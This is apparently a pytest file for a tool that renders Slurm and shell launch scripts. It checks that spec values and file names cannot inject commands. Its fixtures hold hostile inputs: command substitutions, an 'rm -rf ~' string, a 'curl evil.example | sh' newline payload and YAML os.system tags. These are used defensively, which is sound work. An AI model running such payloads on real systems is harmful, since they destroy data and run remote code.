"""No spec value or file name can inject into a generated script (promise 3).

Each shell template is rendered with hostile values in every field and parsed back with
`shlex`: a value stays one word. The two reproductions of issue 14 (a newline in
`cluster.partition`; a spec file named `q'$(touch PWNED)'.yaml`) are run end to end, the
second by executing the generated `slurm.sbatch` with stand-in `srun`, `scontrol` and
`accelerate` programs.
"""

from __future__ import annotations

import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest

from peftc.compiler.launchfiles import render

SPEC = """
base_model: meta-llama/Llama-2-7b-hf
task: alpaca
profile: none
max_steps: 100
micro_batch_size: 2
num_gpus: 2
"""
# quotes, command substitution, backticks, a separator, a comment and a glob
WORD = "x y'\"$(touch PWNED)`touch PWNED`;rm -rf ~ #*"
LINE = WORD + "\nsecond line $(touch PWNED)"  # and a newline, where no pattern stops it

SBATCH_STRINGS = ("name", "time", "partition", "account", "qos")
SBATCH_NUMBERS = {"nodes": 1, "gpus_per_node": 2, "cpus_per_task": 4, "port": 29500,
                  "first_wave_size": 3}


def _sbatch(**values):
    context = {**SBATCH_NUMBERS, **dict.fromkeys(SBATCH_STRINGS, "ok"), "spec": "s.yaml",
               "setup": None, **values}
    return render("slurm.sbatch.j2", **context)


@pytest.mark.parametrize("field", SBATCH_STRINGS)
def test_an_sbatch_field_stays_one_word(field):
    script = _sbatch(**{field: WORD})
    option = {"name": "job-name"}.get(field, field)
    [line] = [x for x in script.splitlines() if x.startswith(f"#SBATCH --{option}=")]
    assert shlex.split(line[1:]) == ["SBATCH", f"--{option}={WORD}"]


def test_comment_fields_stay_in_their_comment_line():
    benign = _sbatch()
    assert len(_sbatch(spec=LINE).splitlines()) == len(benign.splitlines())
    launch = render("launch.sh.j2", run_id=LINE)
    assert len(launch.splitlines()) == len(render("launch.sh.j2", run_id="r").splitlines())


def test_submit_script_quotes_the_wave_file():
    script = render("slurm-submit.sh.j2", waves=[{"file": LINE, "size": 2}])
    command = script.split("job=$(", 1)[1].split(")\necho", 1)[0]
    assert shlex.split(command)[-1] == LINE


@pytest.mark.parametrize("field", sorted(SBATCH_NUMBERS))
def test_a_number_field_refuses_text(field):
    # shell arithmetic evaluates a variable's text: a[$(cmd)] there would run cmd
    with pytest.raises(ValueError, match="where a number goes"):
        _sbatch(**{field: "a[$(touch PWNED)]"})


def test_every_generated_script_parses_and_keeps_each_run_dir_one_word(tmp_path, write_spec,
                                                                        cli):
    spec = write_spec(SPEC + "cluster: {nodes: 1, gpus_per_node: 2, partition: gpu}\n")
    out = tmp_path / "out"
    code, _, err = cli("compile", spec, "-o", out, "--slurm")
    assert code == 0, err
    for name in ("slurm.sbatch", "slurm-submit.sh", *(p.relative_to(out).as_posix() for p in
                                                      out.glob("runs/*/launch.sh"))):
        check = subprocess.run(["bash", "-n", str(out / name)], capture_output=True, text=True)
        assert check.returncode == 0, (name, check.stderr)


@pytest.mark.parametrize("key", ["partition", "account", "qos", "time"])
def test_a_newline_in_an_sbatch_value_is_a_located_lint_error(write_spec, cli, key):
    spec = write_spec(SPEC + f'cluster:\n  {key}: "gpu\\ncurl evil.example | sh"\n')
    code, out, _ = cli("lint", spec)
    assert code == 1
    assert re.search(rf"spec.yaml:8:\d+: E102 error: 'cluster.{key}' does not match", out)


def test_a_hostile_command_line_cluster_flag_is_refused(write_spec, cli, tmp_path):
    spec = write_spec(SPEC)
    code, _, err = cli("compile", spec, "-o", tmp_path / "out", "--slurm", "--partition",
                       "gpu\nid", "--gpus-per-node", "2")
    assert code == 2 and "--partition: 'cluster.partition' does not match" in err
    assert not (tmp_path / "out").exists()


def test_cluster_setup_is_shown_for_review(write_spec, cli):
    spec = write_spec(SPEC + "cluster:\n  setup: module load cuda\n")
    code, out, _ = cli("lint", spec)
    assert code == 0
    assert "spec.yaml:8:10: I401 info: cluster.setup is shell" in out


STAND_INS = {
    # srun: drop its own options, run the program
    "srun": 'while [[ "$1" == --* ]]; do shift; done\nexec "$@"\n',
    "scontrol": "echo node0\n",
    # accelerate: record each argument on its own line
    "accelerate": 'printf "%s\\n" "$@" > "$ARGS_FILE"\n',
}


def _run_sbatch(out: Path, tmp_path: Path, runs_file: str) -> list[str]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for name, body in STAND_INS.items():
        (bin_dir / name).write_text("#!/usr/bin/env bash\n" + body)
        (bin_dir / name).chmod(0o755)
    args_file = tmp_path / "accelerate-args.txt"
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "ARGS_FILE": str(args_file),
           "SLURM_SUBMIT_DIR": str(out), "SLURM_ARRAY_TASK_ID": "0", "SLURM_NNODES": "1",
           "SLURM_NODEID": "0", "SLURM_JOB_NODELIST": "node0"}
    proc = subprocess.run(["bash", str(out / "slurm.sbatch"), runs_file], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    return args_file.read_text().splitlines()


def test_a_hostile_spec_file_name_runs_nothing(tmp_path, write_spec, cli):
    spec = write_spec(SPEC, name="q'$(touch PWNED)'.yaml")
    out = tmp_path / "out"
    code, _, err = cli("compile", spec, "-o", out, "--slurm", "--gpus-per-node", "2")
    assert code == 0, err
    [run_dir] = (out / "runs").iterdir()
    assert run_dir.name.startswith("q-touch-PWNED-")  # a slug: [A-Za-z0-9._-] only
    args = _run_sbatch(out, tmp_path, "slurm/wave-0.txt")
    assert args[-1] == f"runs/{run_dir.name}"
    assert not list(tmp_path.rglob("PWNED"))


def test_a_hostile_line_in_a_runs_file_stays_one_argument(tmp_path, write_spec, cli):
    # safe by construction: even a run folder that is not a slug reaches accelerate as data
    out = tmp_path / "out"
    code, _, err = cli("compile", write_spec(SPEC), "-o", out, "--slurm", "--gpus-per-node", "2")
    assert code == 0, err
    hostile = "runs/x'\"$(touch PWNED)`touch PWNED`"
    (tmp_path / "hostile.txt").write_text(hostile + "\n")
    args = _run_sbatch(out, tmp_path, str(tmp_path / "hostile.txt"))
    assert args[:3] == ["launch", "--config_file", f"{hostile}/accelerate.yaml"]
    assert args[-1] == hostile
    assert not list(tmp_path.rglob("PWNED"))


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system", "!!python/name:os.system"])
def test_lint_never_runs_code_from_a_yaml_tag(write_spec, cli, tmp_path, tag):
    spec = write_spec(SPEC + f'seed: {tag} ["touch {tmp_path}/PWNED"]\n')
    code, out, _ = cli("lint", spec)  # the tag is ignored: the value is plain data
    assert code == 1 and "spec.yaml:7:7: E101 error: 'seed' must be an integer" in out
    assert not (tmp_path / "PWNED").exists()
